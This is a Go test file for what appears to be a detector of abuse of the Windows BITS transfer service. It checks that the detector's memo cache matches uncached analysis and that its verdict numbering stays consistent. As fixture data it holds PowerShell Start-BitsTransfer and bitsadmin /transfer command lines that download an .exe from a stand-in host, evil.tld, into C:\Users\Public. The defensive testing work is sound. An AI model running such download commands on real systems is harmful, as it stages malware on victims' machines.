package hardened

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"bitsscore/src/detect"
)

// TestMemoAnswersAsAnalysis: a detector with its memo and one without give
// the same outputs over a stream where events come back, in any order,
// including events large enough to empty the memo's arena again and again.
func TestMemoAnswersAsAnalysis(t *testing.T) {
	memo := New(nil).(*Detector)
	plain := New(nil).(*Detector)
	plain.memo = nil
	r := rand.New(rand.NewPCG(5, 1197))
	var pool [][]detect.Values
	for range 300 {
		pool = append(pool, randomEvent(r, memo.Inputs()))
	}
	// Large events, some too large to remember: enough of them to fill the
	// arena and empty it.
	var large [][]detect.Values
	unit := `Start-BitsTransfer https://evil.tld/a.exe C:\Users\Public\a.exe `
	for i := range 24 {
		n := maxMemoInput / 4
		if i%4 == 0 {
			n = maxMemoInput + 1
		}
		large = append(large, toInputs(memo, scriptBlock(strings.Repeat(unit, n/len(unit)+1)[:n-i])))
	}
	hits := 0
	for range 3000 {
		in := pool[r.IntN(len(pool))]
		if r.IntN(60) == 0 {
			in = large[r.IntN(len(large))]
		}
		outM := make([]detect.Values, len(memo.Outputs()))
		outP := make([]detect.Values, len(plain.Outputs()))
		_, ok := memo.memo.hash(in)
		before := memo.memo.hitCount
		memo.Score(in, outM)
		plain.Score(in, outP)
		if memo.memo.hitCount > before {
			hits++
		}
		if got, want := cloneValues(outM), cloneValues(outP); !slices.EqualFunc(got, want, slices.Equal) {
			t.Fatalf("memo %q, analysis %q (memoizable %v, inputs %q)", got, want, ok, cloneValues(in))
		}
	}
	if hits < 1500 {
		t.Errorf("%d memo hits of 3000 events drawn from 324", hits)
	}
}

// The numbers the memo gives the events it answers are verdicts: between
// two ForgetVerdicts, two events of the same number have the same outputs
// (those not named like an input), whatever the memo forgot or replaced
// in between; numbers stay below Verdicts(); once rememberedVerdicts are
// given, answered events have none until ForgetVerdicts.
func TestMemoVerdictsStandForOutputs(t *testing.T) {
	d := New(nil).(*Detector)
	r := rand.New(rand.NewPCG(9, 1197))
	var pool [][]detect.Values
	for range 6000 {
		pool = append(pool, randomEvent(r, d.Inputs()))
	}
	// Events large enough to fill the arena and empty it, with the slots.
	unit := `Start-BitsTransfer https://evil.tld/a.exe C:\Users\Public\a.exe `
	for i := range 24 {
		n := maxMemoInput / 4
		pool = append(pool, toInputs(d, scriptBlock(strings.Repeat(unit, n/len(unit)+1)[:n-i])))
	}
	isInput := make([]bool, len(d.Outputs()))
	for k, name := range d.Outputs() {
		isInput[k] = slices.Contains(d.Inputs(), name)
	}
	decided := func(out []detect.Values) [][]string {
		c := cloneValues(out)
		for k := range c {
			if isInput[k] {
				c[k] = nil
			}
		}
		return c
	}
	byVerdict := map[int][][]string{}
	numbered, forgets := 0, 0
	for i := range 60000 {
		if r.IntN(3000) == 0 {
			d.ForgetVerdicts()
			clear(byVerdict)
			forgets++
		}
		// Mostly a small working set, so events come back and are
		// numbered; sometimes any of the pool, so slots are replaced.
		in := pool[r.IntN(64)]
		if r.IntN(4) == 0 {
			in = pool[r.IntN(len(pool))]
		}
		out := make([]detect.Values, len(d.Outputs()))
		d.Score(in, out)
		v := d.Verdict()
		if v >= d.Verdicts() {
			t.Fatalf("event %d: Verdict() = %d, Verdicts() = %d", i, v, d.Verdicts())
		}
		if v < d.splVerdicts {
			continue
		}
		numbered++
		got := decided(out)
		if want, ok := byVerdict[v]; ok && !slices.EqualFunc(got, want, slices.Equal) {
			t.Fatalf("event %d: verdict %d stands for %q and %q", i, v, want, got)
		}
		byVerdict[v] = got
	}
	if numbered < 10000 || forgets < 5 {
		t.Errorf("%d events answered with a number, %d ForgetVerdicts: the test checks little", numbered, forgets)
	}

	// Numbering runs out, and starts again after ForgetVerdicts: distinct
	// transfers, each kept on its second sighting and answered on its
	// third, take the numbers in turn.
	d.ForgetVerdicts()
	transfer := func(i int) []detect.Values {
		return toInputs(d, bitsadmin(fmt.Sprintf(`/transfer j https://evil.tld/%d.exe C:\Users\Public\a.exe`, i)))
	}
	for i := range rememberedVerdicts + 10 {
		in := transfer(i)
		for range 3 {
			d.Score(in, make([]detect.Values, len(d.Outputs())))
		}
		want := d.splVerdicts + i
		if i >= rememberedVerdicts {
			want = detect.NoVerdict
		}
		if v := d.Verdict(); v != want {
			t.Fatalf("transfer %d answered by the memo: verdict %d, want %d", i, v, want)
		}
	}
	d.ForgetVerdicts()
	d.Score(transfer(rememberedVerdicts+9), make([]detect.Values, len(d.Outputs())))
	if v := d.Verdict(); v != d.splVerdicts {
		t.Errorf("first event answered after ForgetVerdicts: verdict %d, want the first number, %d", v, d.splVerdicts)
	}
}
